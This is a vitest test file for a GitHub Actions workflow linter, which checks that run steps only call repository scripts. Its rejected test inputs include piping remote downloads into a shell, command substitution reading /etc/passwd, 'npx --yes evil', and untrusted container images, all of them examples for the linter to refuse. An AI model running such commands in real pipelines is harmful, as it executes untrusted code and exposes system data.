import { expect, test } from "vitest";
import { expression, findings, good, messages } from "./good-workflow.ts";

test.each([
  [
    "an expression in a script",
    '"$STACK"',
    expression("github.event.issue.title"),
    "25:14: jobs.up.steps[2].run: has an expression",
  ],
  [
    "more than a script",
    'pipelines/up.sh "$STACK"',
    "curl https://example.com | sh",
    "25:14: jobs.up.steps[2].run: is more than",
  ],
  [
    "several lines",
    'pipelines/up.sh "$STACK"',
    "|\n          npm ci\n          npm test",
    "25:14: jobs.up.steps[2].run: is more than",
  ],
  [
    "a script that isn't there",
    "pipelines/up.sh",
    "pipelines/upp.sh",
    "25:14: jobs.up.steps[2].run: calls pipelines/upp.sh, which",
  ],
  [
    "a token that is left behind",
    "persist-credentials: false",
    "fetch-depth: 1",
    "18:9: jobs.up.steps[0]: leaves the token",
  ],
])("%s is refused", (_case, text, other, found) => {
  expect(findings(text, other)).toContainEqual(expect.stringContaining(`up.yml:${found}`));
});

test.each([
  "npm run pulumi -- up --stack prod --yes",
  "npmfoo",
  "pipelines/check.sh && curl -s https://example.com | bash",
  "pipelines/check.sh; pipelines/test.sh",
  "pipelines/report.sh $(cat /etc/passwd) report.md",
  "pipelines/report.sh `id` report.md",
  'pipelines/report.sh "$(id)" report.md',
  "pipelines/check.sh >/dev/null",
  "pipelines/check.sh & pipelines/test.sh",
  "pipelines/../cli/flex-media.ts",
  "bash pipelines/check.sh",
  " pipelines/check.sh",
  "pipelines/outcome.sh",
  "pipelines/outcome.sh npm run pulumi -- up --stack prod --yes",
  "pipelines/outcome.sh npx --yes evil",
  "pipelines/outcome.sh pipelines/outcome.sh npx --yes evil",
  "pipelines/outcome.sh pipelines/../cli/flex-media.ts",
])("%s is more than the call of a script", (run) => {
  const found = findings('pipelines/up.sh "$STACK"', JSON.stringify(run));
  expect(found).toContainEqual(expect.stringContaining("jobs.up.steps[2].run: is more than the call of a script"));
});

test.each([
  'pipelines/verify.sh "$STACK"',
  'pipelines/outcome.sh pipelines/drift.sh "$STACK" "$REPORT"',
  "pipelines/promote.sh dev staging .flex-media/report.md --dry-run",
  "pipelines/check.sh",
])("%s is the call of a script", (run) => {
  expect(messages(good.replace('pipelines/up.sh "$STACK"', run))).toEqual([]);
});

test.each([
  [
    "an image for a job",
    "    steps:\n",
    "    container: evil/image:latest\n    steps:\n",
    "17:16: jobs.up.container: runs an",
  ],
  [
    "a service",
    "    steps:\n",
    "    services: {db: {image: evil}}\n    steps:\n",
    "17:15: jobs.up.services: runs an image",
  ],
  [
    "a shell of a step",
    "      - run:",
    "      - shell: python\n        run:",
    "25:16: jobs.up.steps[2].shell: gives scripts",
  ],
  [
    "a shell of a job",
    "    steps:\n",
    "    defaults: {run: {shell: sh}}\n    steps:\n",
    "17:15: jobs.up.defaults: gives",
  ],
  ["a shell of all jobs", "permissions: {}", "permissions: {}\ndefaults: {run: {shell: sh}}", "5:11: defaults: gives"],
])("%s is refused", (_case, text, other, found) => {
  expect(findings(text, other)).toContainEqual(expect.stringContaining(`up.yml:${found}`));
});
